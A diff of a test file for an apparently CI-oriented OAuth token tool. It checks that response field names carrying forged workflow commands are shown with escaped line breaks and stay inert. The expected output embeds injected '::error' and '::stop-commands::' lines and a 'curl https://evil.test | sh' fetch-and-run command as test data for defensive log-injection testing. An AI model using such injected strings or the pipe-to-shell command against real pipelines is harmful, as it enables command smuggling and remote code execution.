@@ -52,10 +52,10 @@ test('a content type carrying ##[add-mask]: inert in the --verbose line and the 
   ]);
 });
 
-test('field names of an answer without access_token: inert', () => {
+test('field names of an answer without access_token: inert, their line breaks shown escaped', () => {
   expect(runs.fields!.code).toBe(1);
   expect(stderrLines(runs.fields!).at(-1)).toBe(
-    `oauth-token: Token endpoint answered HTTP 200 but the response has no access_token (fields: token_type, # #[error]forged, x ${FORGED_SHOWN})`
+    'oauth-token: Token endpoint answered HTTP 200 but the response has no access_token (fields: token_type, # #[error]forged, x\\u000a::error title=Forged::run curl https://evil.test | sh\\u000a::stop-commands::x)'
   );
 });
 
